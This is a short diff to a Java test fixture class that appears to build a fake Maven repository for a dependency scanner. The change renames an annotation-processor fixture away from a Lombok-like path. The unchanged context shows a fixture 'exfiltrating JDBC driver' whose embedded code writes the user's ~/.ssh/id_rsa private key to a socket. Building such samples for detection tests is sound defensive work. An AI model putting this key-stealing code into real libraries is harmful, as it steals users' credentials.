@@ -9,7 +9,7 @@ import java.nio.file.Path;
 final class ScanFixtures {
   private ScanFixtures() {}
 
-  /** Lays out a clean library, an exfiltrating JDBC driver and a Lombok-shaped processor under {@code root}. */
+  /** Lays out a clean library, an exfiltrating JDBC driver and an untrusted annotation processor under {@code root}. */
   static Path repository(Path root) throws IOException {
     Path repository = root.resolve("repository");
     put(repository, "org/example/clean/1.0/clean-1.0.jar", JarFixture.builder()
@@ -27,7 +27,7 @@ final class ScanFixtures {
               s.getOutputStream().write(Files.readAllBytes(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")));
             } catch (Exception e) { } } }
             """).toBytes());
-    put(repository, "org/projectlombok/lombok/1.18.36/lombok-1.18.36.jar", JarFixture.builder()
+    put(repository, "org/example/codegen/1.0/codegen-1.0.jar", JarFixture.builder()
         .service("javax.annotation.processing.Processor", "fixture.Rewriter")
         .javaSource("fixture/Rewriter", """
             package fixture;
